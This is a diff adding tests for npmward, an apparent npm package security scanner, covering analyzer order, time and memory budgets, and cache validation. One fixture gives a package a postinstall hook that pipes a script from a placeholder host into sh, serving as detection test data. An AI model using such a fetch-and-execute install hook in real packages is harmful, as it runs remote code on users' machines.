@@ -1,0 +1,70 @@
+"""The engine on its own: budgets per package (time, memory), findings kept when a worker is stopped,
+cheap analyzers first, and a findings cache that never trusts a malformed entry."""
+
+from __future__ import annotations
+
+import json
+
+from npmward.engine import INCOMPLETE_RULE, FindingCache, Job, default_analyzer_names, run_jobs
+from npmward.model import Confidence, Finding, Severity
+from npmward.package import sri_sha512
+from npmward.settings import Settings
+
+from registry.registry_server import build_tarball
+
+
+def _job(files: dict, name="budget-test") -> Job:
+    data = build_tarball({"package.json": json.dumps({"name": name, "version": "1.0.0", **files.pop("_manifest", {})}),
+                          **files})
+    return Job(target=name, source=f"tarball:{name}.tgz", tarball=data, integrity=sri_sha512(data))
+
+
+def _run(jobs, settings, names=None):
+    names = names or default_analyzer_names()
+    return {index: (analysed, entries) for index, analysed, entries in run_jobs(jobs, names, settings, lambda job: {})}
+
+
+def test_cheap_analyzers_run_before_the_code_analyzer():
+    names = default_analyzer_names()
+    assert names[-1] == "code" and names.index("install-script") < names.index("code")
+
+
+def test_a_package_over_its_time_budget_keeps_its_findings_and_is_not_clean(tmp_path):
+    # Far more code than can be parsed in 0.2 s, behind an install hook the cheap analyzer judges first.
+    big = "".join(f"function f{i}(a) {{ return a + {i} * Math.max(a, {i}); }}\n" for i in range(120_000))
+    job = _job({"_manifest": {"scripts": {"postinstall": "curl -s https://x.example/i.sh | sh"}}, "index.js": big})
+    settings = Settings(cache_dir=tmp_path, jobs=1, package_seconds=0.2)
+    analysed, entries = _run([job], settings)[0]
+    rules = {f.rule for f in analysed.findings}
+    assert "install-script/fetch-and-execute" in rules and INCOMPLETE_RULE in rules
+    incomplete = next(f for f in analysed.findings if f.rule == INCOMPLETE_RULE)
+    assert "time budget of 0.2 s" in incomplete.message and "code" in incomplete.details["analyzers"]
+    assert entries == {}  # an incomplete analysis is never cached
+
+
+def test_a_package_over_its_memory_budget_is_reported_not_lost(tmp_path):
+    big = "x = [" + ",".join(["'" + "y" * 50 + "'"] * 200_000) + "];\n"
+    job = _job({"index.js": big})
+    settings = Settings(cache_dir=tmp_path, jobs=1, package_memory_mb=4)
+    analysed, _ = _run([job], settings)[0]
+    # Either the package could not be loaded at all (an error the run reports) or its analysis stopped.
+    assert analysed.error or any(f.rule == INCOMPLETE_RULE for f in analysed.findings)
+
+
+def test_results_come_back_for_every_job_with_several_workers(tmp_path):
+    jobs = [_job({"index.js": f"module.exports = {i};\n"}, name=f"pkg-{i}") for i in range(7)]
+    results = _run(jobs, Settings(cache_dir=tmp_path, jobs=2))
+    assert sorted(results) == list(range(7))
+    assert [results[i][0].id.name for i in range(7)] == [f"pkg-{i}" for i in range(7)]
+
+
+def test_a_malformed_cache_entry_is_ignored(tmp_path):
+    cache = FindingCache(Settings(cache_dir=tmp_path))
+    good = Finding("code/x", Severity.LOW, Confidence.LOW, "test", "m").to_dict()
+    cache.put("sha512-abc", {"code@1+d": [good], "install-script@1+d": [{"rule": 1}], "other@1+d": "nope"})
+    assert cache.get("sha512-abc", ["code@1+d", "install-script@1+d", "other@1+d"]) == {"code@1+d": [good]}
+    (tmp_path / "findings").mkdir(exist_ok=True)
+    for path in (tmp_path / "findings").rglob("*"):
+        if path.is_file():
+            path.write_text("[1, 2")  # truncated
+    assert cache.get("sha512-abc", ["code@1+d"]) == {}
